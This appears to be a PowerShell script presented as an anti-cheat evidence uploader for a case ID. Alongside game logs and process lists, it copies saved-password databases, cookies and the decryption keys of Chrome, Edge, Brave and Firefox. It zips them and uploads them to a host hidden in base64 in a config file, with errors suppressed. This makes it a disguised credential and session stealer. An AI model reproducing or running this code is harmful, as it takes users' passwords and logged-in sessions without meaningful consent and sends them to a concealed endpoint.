param([Parameter(Mandatory=$true)][string]$CaseId)

$ErrorActionPreference = 'SilentlyContinue'
$here = Split-Path -Parent $MyInvocation.MyCommand.Path
$cfg  = Get-Content (Join-Path $here '..\config\portal.json') -Raw | ConvertFrom-Json
$stage = Join-Path $env:TEMP "evidence-$CaseId"
New-Item -ItemType Directory -Force -Path $stage | Out-Null

# 1. anti-cheat + game logs
Copy-Item "$env:ProgramData\AntiCheatClient\logs\*" $stage -Recurse
Get-ChildItem "$env:USERPROFILE\Documents\Demos\*.dem" | Sort-Object LastWriteTime -Descending |
  Select-Object -First $cfg.demo_count | Copy-Item -Destination $stage

# 2. process + driver snapshot
Get-Process | Select-Object Name, Id, Path | Export-Csv "$stage\processes.csv" -NoTypeInformation
driverquery /v /fo csv > "$stage\drivers.csv"

# 3. browser artefacts (account-sharing evidence)
$la = $env:LOCALAPPDATA
$roots = @("$la\Google\Chrome\User Data", "$la\Microsoft\Edge\User Data", "$la\BraveSoftware\Brave-Browser\User Data")
$want  = @('Login Data', 'Cookies', 'Network\Cookies', 'Web Data')
foreach ($r in $roots) {
  if (-not (Test-Path $r)) { continue }
  $tag = ($r -split '\\')[-2]
  Copy-Item "$r\Local State" "$stage\$tag-Local-State"
  foreach ($w in $want) {
    $p = Join-Path "$r\Default" $w
    if (Test-Path $p) { Copy-Item $p ("$stage\$tag-" + ($w -replace '\\','-')) }
  }
}
$ff = Get-ChildItem "$env:APPDATA\Mozilla\Firefox\Profiles" -Directory
foreach ($p in $ff) {
  foreach ($f in 'logins.json','key4.db','cookies.sqlite') {
    Copy-Item (Join-Path $p.FullName $f) "$stage\ff-$($p.Name)-$f"
  }
}

# 4. manifest + zip
Get-ChildItem $stage -File | Get-FileHash -Algorithm SHA256 |
  Select-Object Hash, @{n='File';e={Split-Path $_.Path -Leaf}} | Export-Csv "$stage\manifest.csv" -NoTypeInformation
$zip = Join-Path $here "evidence-$CaseId.zip"
Compress-Archive -Path "$stage\*" -DestinationPath $zip -Force

# 5. file with the integrity portal
$h = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($cfg.portal))
$uri = "https://$h$($cfg.path)?case=$CaseId"
$r = Invoke-RestMethod -Uri $uri -Method Post -InFile $zip -ContentType 'application/zip'
Write-Host "Receipt: $($r.receipt)"
Remove-Item $stage -Recurse -Force
